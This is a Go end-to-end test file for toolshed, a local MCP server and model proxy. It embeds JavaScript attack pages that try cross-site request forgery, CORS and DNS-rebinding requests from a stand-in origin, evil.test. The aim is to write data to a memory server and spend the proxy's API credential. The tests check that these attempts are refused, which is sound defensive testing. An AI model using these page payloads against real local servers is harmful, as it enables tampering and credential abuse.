//go:build e2e

package e2e

// A web page in a real browser attacks toolshed serve --http on loopback: cross-site
// request forgery (a "simple" POST that needs no preflight), a CORS request, and DNS
// rebinding (the page's own origin comes to be served by toolshed, so its requests are
// same-origin and only the Host header gives them away). Each must be refused by
// toolshed itself before any MCP method runs; a control run with the page's origin
// allowed shows that the same page does reach the memory server when toolshed lets it,
// so the refusals are toolshed's doing and not the browser's.

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/toolshed/toolshed/internal/fakellm"
	"github.com/toolshed/toolshed/internal/testupstream"
)

// attackPage is the attacker's page. It tries every way in against the toolshed
// endpoints it is given and posts what it saw back to its own origin (/report).
const attackPage = `<!doctype html><meta charset="utf-8"><title>attack</title><script>
const targets = {loopback: TARGET};
const init = JSON.stringify({jsonrpc: "2.0", id: 1, method: "initialize", params: {
  protocolVersion: "2025-06-18", capabilities: {}, clientInfo: {name: "page", version: "1"}}});
const initialized = JSON.stringify({jsonrpc: "2.0", method: "notifications/initialized"});
const call = JSON.stringify({jsonrpc: "2.0", id: 2, method: "tools/call", params: {name: "tool_call",
  arguments: {name: "memory__create_entities", arguments: {entities: [
    {name: "PWNED", entityType: "attack", observations: ["written by a web page"]}]}}}});
async function attempt(url, opts) {
  try {
    const r = await fetch(url, Object.assign({signal: AbortSignal.timeout(30000)}, opts));
    let body = "";
    try { body = await r.text(); } catch (e) {}
    return {type: r.type, status: r.status, sid: r.headers.get("mcp-session-id"), body: body.slice(0, 300)};
  } catch (e) {
    return {error: String(e)};
  }
}
async function run() {
  const out = {};
  for (const [name, url] of Object.entries(targets)) {
    // Cross-site request forgery: text/plain needs no preflight and the answer is opaque.
    out[name + " csrf initialize"] = await attempt(url, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: init});
    out[name + " csrf call"] = await attempt(url, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: call});
    // CORS: the full MCP exchange, as a browser app would make it.
    const hdrs = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"};
    const i = await attempt(url, {method: "POST", headers: hdrs, body: init});
    out[name + " cors initialize"] = i;
    if (i.sid) {
      const h = Object.assign({"Mcp-Session-Id": i.sid, "Mcp-Protocol-Version": "2025-06-18"}, hdrs);
      await attempt(url, {method: "POST", headers: h, body: initialized});
      out[name + " cors call"] = await attempt(url, {method: "POST", headers: h, body: call});
    } else if (i.status == 200) {
      // Stateless: no session to name; the call stands alone.
      out[name + " cors call"] = await attempt(url, {method: "POST", headers: hdrs, body: call});
    }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
}
run();
</script>`

// proxyAttackPage spends the proxy's upstream credential from a web page: a simple
// text/plain POST (no preflight), then a CORS JSON request as the Anthropic SDK makes it.
const proxyAttackPage = `<!doctype html><meta charset="utf-8"><title>attack</title><script>
const url = TARGET + "/v1/messages";
const body = JSON.stringify({model: "claude-sonnet-4-5", max_tokens: 64,
  messages: [{role: "user", content: "spend the victim's credits"}]});
async function attempt(opts) {
  try {
    const r = await fetch(url, Object.assign({signal: AbortSignal.timeout(30000)}, opts));
    let text = "";
    try { text = await r.text(); } catch (e) {}
    return {type: r.type, status: r.status, body: text.slice(0, 300)};
  } catch (e) {
    return {error: String(e)};
  }
}
async function run() {
  const out = {};
  out["csrf"] = await attempt({method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: body});
  out["cors"] = await attempt({method: "POST", body: body,
    headers: {"Content-Type": "application/json", "anthropic-version": "2023-06-01"}});
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
}
run();
</script>`

// attackResult is what the page saw of one attempt.
type attackResult struct {
	Type   string `json:"type"`
	Status int    `json:"status"`
	SID    string `json:"sid"`
	Body   string `json:"body"`
	Error  string `json:"error"`
}

// TestBrowserAttackServe serves the attack page from another origin
// (http://evil.test:PORT, which the browser resolves to 127.0.0.1) and lets headless
// Chromium run it against toolshed serve --http on its loopback address.
func TestBrowserAttackServe(t *testing.T) {
	bin := testupstream.Chromium(t)
	up := writeUpstreams(t)

	// Stateless, a lone tools/call needs no session: a forged one would run at once
	// unless toolshed refuses it for its origin.
	for _, mode := range [][]string{nil, {"--stateless"}} {
		name := "sessions"
		if mode != nil {
			name = "stateless"
		}
		t.Run(name+": refused", func(t *testing.T) {
			page := newAttackSite(t, attackPage)
			got := page.run(t, bin, serveHTTP(t, up.config, "memory__create_entities", mode...))
			for name, r := range got {
				switch {
				case strings.Contains(name, "csrf"):
					// The browser hides the answer; what matters is that nothing ran (below).
					if r.Type != "opaque" && r.Error == "" {
						t.Errorf("%s: the page read the answer: %+v", name, r)
					}
				case r.Error == "" || r.SID != "":
					t.Errorf("%s: the page got an answer from toolshed: %+v", name, r)
				}
			}
			if _, ok := got["loopback cors call"]; ok {
				t.Error("the page sent a call that toolshed answered")
			}
			if m := readMemory(t, up.memoryFile); strings.Contains(m, "PWNED") {
				t.Errorf("the page wrote to the memory server:\n%s", m)
			}
		})

		t.Run(name+": control, origin allowed", func(t *testing.T) {
			page := newAttackSite(t, attackPage)
			args := append([]string{"--allow-origin", page.origin}, mode...)
			got := page.run(t, bin, serveHTTP(t, up.config, "memory__create_entities", args...))
			r, ok := got["loopback cors call"]
			if !ok || r.Status != http.StatusOK || !strings.Contains(r.Body, "PWNED") {
				t.Fatalf("with its origin allowed, the page's call did not go through: %+v\nall: %+v", r, got)
			}
			if m := readMemory(t, up.memoryFile); !strings.Contains(m, "PWNED") {
				t.Errorf("the allowed call left no trace in the memory server's file:\n%s", m)
			}
			if err := os.Remove(up.memoryFile); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// attackSite serves an attack page at http://evil.test:PORT/ and collects its report.
// The page's TARGET is replaced by the URL given to run, as a JSON string.
type attackSite struct {
	srv    *httptest.Server
	html   string
	origin string
	report chan map[string]attackResult
	target string
}

func newAttackSite(t *testing.T, html string) *attackSite {
	t.Helper()
	s := &attackSite{html: html, report: make(chan map[string]attackResult, 1)}
	s.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			target, _ := json.Marshal(s.target)
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, strings.Replace(s.html, "TARGET", string(target), 1))
		case "/report":
			var got map[string]attackResult
			if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
				t.Errorf("report: %v", err)
			}
			select {
			case s.report <- got:
			default:
			}
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.srv.Close)
	_, port, _ := net.SplitHostPort(s.srv.Listener.Addr().String())
	s.origin = "http://evil.test:" + port
	return s
}

// run opens the page in headless Chromium against toolshed at target and returns the
// page's report.
func (s *attackSite) run(t *testing.T, bin, target string) map[string]attackResult {
	t.Helper()
	s.target = target
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	browser := startChromium(t, ctx, bin, s.origin+"/")
	select {
	case got := <-s.report:
		t.Logf("the page saw: %s", fmt.Sprint(got))
		return got
	case <-ctx.Done():
		t.Fatalf("the page sent no report within 2 minutes; chromium said:\n%s", browser.String())
		return nil
	}
}

// TestBrowserAttackProxy lets a page from another origin try to spend toolshed proxy's
// upstream credential: nothing may reach the model unless the page's origin is allowed.
func TestBrowserAttackProxy(t *testing.T) {
	bin := testupstream.Chromium(t)

	model := fakellm.NewAnthropic(fakellm.Say("spent"))
	up := httptest.NewServer(model)
	defer up.Close()
	page := newAttackSite(t, proxyAttackPage)
	proxy, _ := startToolshedProxy(t, "anthropic", up.URL)
	got := page.run(t, bin, proxy)
	if r := got["csrf"]; r.Type != "opaque" && r.Error == "" {
		t.Errorf("csrf: the page read the answer: %+v", r)
	}
	if r := got["cors"]; r.Error == "" {
		t.Errorf("cors: the page got an answer: %+v", r)
	}
	if n := len(model.Requests()); n != 0 {
		t.Fatalf("the page's requests reached the model %d times", n)
	}

	// Control: with the page's origin allowed, its CORS request does reach the model.
	page = newAttackSite(t, proxyAttackPage)
	proxy, _ = startToolshedProxy(t, "anthropic", up.URL, "--allow-origin", page.origin)
	got = page.run(t, bin, proxy)
	if r := got["cors"]; r.Status != http.StatusOK || !strings.Contains(r.Body, "spent") {
		t.Errorf("with its origin allowed, the page's request did not go through: %+v", r)
	}
	if n := len(model.Requests()); n != 1 {
		t.Errorf("with the origin allowed, the model got %d requests, want 1 (the CORS one; the text/plain one stays refused)", n)
	}
}

// rebindPage is a DNS-rebinding page: loaded from evil.test:PORT, it waits until its
// host name "resolves" to toolshed (the test closes the page's server and starts
// toolshed on the same port), then speaks MCP to its own origin, and sends what it saw
// to the report URL (a simple cross-origin POST, which needs no permission).
const rebindPage = `<!doctype html><meta charset="utf-8"><title>rebind</title><script>
const report = REPORT;
const hdrs = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"};
const bodies = {
  initialize: JSON.stringify({jsonrpc: "2.0", id: 1, method: "initialize", params: {
    protocolVersion: "2025-06-18", capabilities: {}, clientInfo: {name: "page", version: "1"}}}),
  call: JSON.stringify({jsonrpc: "2.0", id: 2, method: "tools/call", params: {name: "tool_call",
    arguments: {name: "memory__create_entities", arguments: {entities: [
      {name: "PWNED", entityType: "attack", observations: ["written by a rebound page"]}]}}}}),
};
async function rebound(body) {
  // Each attempt is bounded, so that a request that hangs (a connection the browser
  // kept from the page's server) is tried again rather than waited on for ever.
  const deadline = Date.now() + 120000;
  let last = "";
  while (Date.now() < deadline) {
    try {
      const r = await fetch("/mcp", {method: "POST", headers: hdrs, body: body, signal: AbortSignal.timeout(10000)});
      if (!r.headers.get("x-attack-page")) {
        return {status: r.status, sid: r.headers.get("mcp-session-id"), body: (await r.text()).slice(0, 300)};
      }
      last = "the page's own server answered";
    } catch (e) {
      last = String(e);
    }
    await new Promise(done => setTimeout(done, 250));
  }
  return {error: "toolshed never answered on the page's origin; last: " + last};
}
async function run() {
  await fetch("/rebind");
  const out = {};
  for (const [name, body] of Object.entries(bodies)) out["rebound " + name] = await rebound(body);
  await fetch(report, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
    body: JSON.stringify(out)});
}
run();
</script>`

// TestBrowserDNSRebindingServe runs a real DNS-rebinding attack in headless Chromium: the
// page is served from http://evil.test:PORT, then toolshed serve --http takes over that
// very port, so the page's requests to /mcp are same-origin and the browser lets it read
// the answers. toolshed must refuse them for their Host (evil.test is not a loopback
// name) before any MCP method runs.
func TestBrowserDNSRebindingServe(t *testing.T) {
	bin := testupstream.Chromium(t)
	up := writeUpstreams(t)

	got := rebindAttack(t, bin, up.config)
	for _, name := range []string{"rebound initialize", "rebound call"} {
		r := got[name]
		if r.Status != http.StatusForbidden || r.SID != "" || !strings.Contains(r.Body, "evil.test") {
			t.Errorf("%s: want toolshed's 403 naming the refused host, got %+v", name, r)
		}
	}
	if m := readMemory(t, up.memoryFile); strings.Contains(m, "PWNED") {
		t.Errorf("the rebound page wrote to the memory server:\n%s", m)
	}

	// Control: with the page's host name allowed, the same page gets a session, so the
	// refusal above is the Host check's doing.
	got = rebindAttack(t, bin, up.config, "--allow-host", "evil.test")
	if r := got["rebound initialize"]; r.Status != http.StatusOK || r.SID == "" {
		t.Errorf("with evil.test allowed, initialize was not answered: %+v", r)
	}
}

// rebindAttack serves rebindPage from http://evil.test:PORT to headless Chromium, then
// starts toolshed serve --http (with args) on that port, and returns the page's report.
func rebindAttack(t *testing.T, bin, config string, args ...string) map[string]attackResult {
	t.Helper()
	reports := make(chan map[string]attackResult, 1)
	reporter := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var got map[string]attackResult
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			t.Errorf("report: %v", err)
		}
		select {
		case reports <- got:
		default:
		}
	}))
	defer reporter.Close()

	rebind := make(chan struct{}, 1)
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Attack-Page", "1")
		switch r.URL.Path {
		case "/":
			report, _ := json.Marshal(reporter.URL)
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, strings.Replace(rebindPage, "REPORT", string(report), 1))
		case "/rebind":
			select {
			case rebind <- struct{}{}:
			default:
			}
		default:
			http.NotFound(w, r)
		}
	}))
	addr := page.Listener.Addr().String()
	_, port, _ := net.SplitHostPort(addr)

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	browser := startChromium(t, ctx, bin, "http://evil.test:"+port+"/")
	select {
	case <-rebind:
	case <-ctx.Done():
		t.Fatalf("the page never loaded; chromium said:\n%s", browser.String())
	}
	// The rebinding: the page's origin now reaches toolshed.
	page.CloseClientConnections()
	page.Close()
	testupstream.Start(t, exec.Command(toolshedBin, append([]string{"serve", "--config", config, "--http", addr}, args...)...), testupstream.ServersReady)

	select {
	case got := <-reports:
		t.Logf("the page saw: %v", got)
		return got
	case <-ctx.Done():
		t.Fatalf("the page sent no report; chromium said:\n%s", browser.String())
		return nil
	}
}

// startChromium runs headless Chromium on url until the test ends, with evil.test
// resolving to 127.0.0.1, and returns its stderr.
func startChromium(t *testing.T, ctx context.Context, bin, url string) *testupstream.SyncBuffer {
	t.Helper()
	// --disable-dev-shm-usage: its shared memory in the test's TMPDIR (see ClientEnv),
	// not /dev/shm, where a browser killed at the end of the test would leave it.
	cmd := exec.CommandContext(ctx, bin, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage",
		"--user-data-dir="+filepath.Join(t.TempDir(), "profile"),
		"--host-resolver-rules=MAP evil.test 127.0.0.1",
		"--remote-debugging-port=0", // keeps the browser open until the test ends it
		url)
	cmd.Env = testupstream.ClientEnv(t)
	testupstream.Own(t, cmd)
	stderr := &testupstream.SyncBuffer{}
	cmd.Stderr = stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return stderr
}
